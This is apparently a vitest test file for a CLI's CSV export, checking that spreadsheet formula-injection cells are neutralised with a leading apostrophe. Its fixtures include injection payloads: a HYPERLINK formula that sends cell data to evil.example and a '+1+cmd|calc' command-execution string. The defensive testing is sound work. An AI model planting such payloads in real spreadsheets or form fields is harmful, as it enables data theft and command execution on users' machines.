// Spreadsheet formula injection. summary.csv of `report export` (written for
// people) neutralises cells that start with = + - @ tab CR; `--csv` on stdout stays exact unless
// --csv-safe (or ASSESS_CSV_SAFE=1) asks for the same.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAssess, tempDir } from '../helpers/cli.js';
import { startTestSandbox, type TestSandbox } from '../helpers/sandbox.js';
import { spawnAssess } from '../helpers/spawn.js';

let s: TestSandbox;
const work = tempDir('assess-csv-');
const NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|calc', '@SUM(A1:A9)', '-2+3', 'Plain Name'];
const ids: number[] = [];
beforeAll(async () => {
  s = await startTestSandbox();
  for (const [i, name] of NAMES.entries()) {
    const inv = await s.service<{ testInvitationId: number }>('/v3/tests/1001/invite', {
      email: `f${i}@formula.example`,
      name,
    });
    await s.control('POST', `/invitations/${inv.testInvitationId}/simulate`, { to: 'complete', score: 40 + i });
    ids.push(inv.testInvitationId);
  }
});
afterAll(async () => {
  await s?.close();
  work.cleanup();
});

/** Minimal RFC 4180 reader (quoted cells, doubled quotes). */
function cells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') ((cell += '"'), i++);
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') (row.push(cell), (cell = ''));
    else if (ch === '\r' && text[i + 1] === '\n') {
      (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
    } else cell += ch;
  }
  return rows;
}

describe('CSV formula injection: cells for people neutralised, --csv exact unless asked', () => {
  it('report export: summary.csv neutralises formula-like names; numbers stay numbers', async () => {
    const out = join(work.dir, 'exp');
    const r = await runAssess(['report', 'export', '--from', '1d', '--to', '+1h', '--out', out], { env: s.env });
    expect(r.code).toBe(0);
    const [head, ...rows] = cells(readFileSync(join(out, 'summary.csv'), 'utf8'));
    const name = head!.indexOf('candidateName');
    const score = head!.findIndex((h) => /score/i.test(h));
    expect(name).toBeGreaterThanOrEqual(0);
    const names = rows.map((row) => row[name]);
    for (const n of NAMES.slice(0, 4)) expect(names).toContain(`'${n}`);
    expect(names).toContain('Plain Name');
    for (const row of rows) {
      expect(row[name]).not.toMatch(/^[=+\-@\t\r]/);
      if (score >= 0) expect(row[score]).toMatch(/^\d+(\.\d+)?$/);
    }
  });

  const list = ['attempts', 'list', '--state', 'completed', '--from', '30d', '--to', '+1d', '--csv'];
  it('--csv to stdout is exact by default (a program reads it)', async () => {
    const r = await runAssess(list, { env: s.env });
    expect(r.code).toBe(0);
    const names = cells(r.stdout).map((row) => row[cells(r.stdout)[0]!.indexOf('name')]);
    expect(names).toContain(NAMES[0]);
  });

  it('--csv --csv-safe and ASSESS_CSV_SAFE=1 neutralise the same cells', async () => {
    for (const r of [
      await runAssess([...list, '--csv-safe'], { env: s.env }),
      await runAssess(list, { env: { ...s.env, ASSESS_CSV_SAFE: '1' } }),
    ]) {
      expect(r.code).toBe(0);
      const [head, ...rows] = cells(r.stdout);
      const names = rows.map((row) => row[head!.indexOf('name')]);
      for (const n of NAMES.slice(0, 4)) expect(names).toContain(`'${n}`);
      for (const row of rows) expect(row[head!.indexOf('testInvitationId')]).toMatch(/^\d+$/);
    }
  });

  it('callbacks listen --csv --csv-safe neutralises the notification cells too', async () => {
    const l = spawnAssess(['callbacks', 'listen', '--port', '0', '--print-url', '--no-inbox', '--csv', '--csv-safe']);
    const url = await l.firstLine();
    const body = {
      CandidateEmailId: '=1+2@x.example',
      AttemptedOn: null,
      AttemptedOnUtc: null,
      TotalScore: 10,
      CandidateScore: -5,
      ReportPDFUrl: null,
      TestInvitationId: 7,
      Status: '@Complete',
      PerformanceCategory: null,
    };
    await fetch(url!, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
    const lines = await l.waitForLines(3);
    await l.stop();
    const row = cells(`${lines[2]}\r\n`)[0]!;
    expect(row).toContain("'=1+2@x.example");
    expect(row).toContain("'@Complete");
    expect(row).toContain('-5'); // a number stays a number
  });
});
